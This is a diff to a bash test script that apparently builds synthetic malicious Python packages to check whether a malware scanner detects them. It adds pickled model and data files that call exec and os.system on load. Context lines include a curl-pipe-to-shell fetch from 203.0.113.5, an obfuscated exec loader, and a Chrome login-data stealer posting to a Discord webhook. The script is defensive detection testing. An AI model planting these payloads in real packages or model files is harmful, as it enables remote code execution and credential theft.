@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Generalisation probe: 47 small synthetic packages, each using one malware technique of
+# Generalisation probe: 49 small synthetic packages, each using one malware technique of
 # recent campaigns (written from public reports, not taken from the corpus), scanned with
 # default settings. Prints one line per technique: verdict, score, rules. The packages are
 # written to a temporary folder and scanned as unpacked folders; nothing is run.
@@ -187,7 +187,7 @@ subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https
 EOF
 # Techniques of later campaigns, beyond a package's own `__init__.py`: an in-tree build
 # backend, .pth and sitecustomize start-up hooks, code in tests/ that setup.py calls,
-# encodings and a stego loader. Written by a Python generator (encoded payloads).
+# encodings, a stego loader, pickled models. Written by a Python generator (encoded payloads).
 python3 - <<'PYEOF'
 import base64, codecs, lzma, marshal, os, zlib
 pay = 'import os\nos.system("curl -s http://203.0.113.5/a.sh | sh")\n'
@@ -231,6 +231,22 @@ w('cmdclassdl-1.0/setup.py', 'import os, urllib.request, tempfile\nfrom setuptoo
 z = base64.b64encode(zlib.compress(pay.encode())).decode()
 mk('lambdaobf', '_ = lambda __ : __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]));exec((_)(%r))\n' % z[::-1])
 mk('loginsteal', 'import os, shutil, requests\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\nshutil.copy(p, os.path.join(os.environ["TEMP"], "ld"))\nrequests.post("https://discord.com/api/webhooks/123/abc", files={"f": open(os.path.join(os.environ["TEMP"], "ld"), "rb")})\n')
+# A model file (zip-format .pt, as torch.save writes) and a data file that are pickles
+# calling exec / os.system when loaded; the package loads them at import. Pickled here
+# by reference (__reduce__), never loaded.
+import io, pickle, zipfile
+class X:
+    def __reduce__(self): return (exec, (pay,))
+class C:
+    def __reduce__(self): return (os.system, ('curl -s http://203.0.113.5/a.sh | sh',))
+mk('pklmodel', 'import os, torch\nmodel = torch.load(os.path.join(os.path.dirname(__file__), "model.pt"), weights_only=False)\n')
+b = io.BytesIO()
+with zipfile.ZipFile(b, 'w') as z:
+    z.writestr('archive/data.pkl', pickle.dumps({'w': X()}, protocol=2))
+    z.writestr('archive/version', '3\n')
+open('pklmodel-1.0/pklmodel/model.pt', 'wb').write(b.getvalue())
+mk('pklraw', 'import pickle, os\ncfg = pickle.load(open(os.path.join(os.path.dirname(__file__), "cfg.bin"), "rb"))\n')
+open('pklraw-1.0/pklraw/cfg.bin', 'wb').write(pickle.dumps([1, C()], protocol=4))
 PYEOF
 for d in */; do
   "$bin" scan --format json --fail-on suspicious "$d" 2>/dev/null | python3 -c '
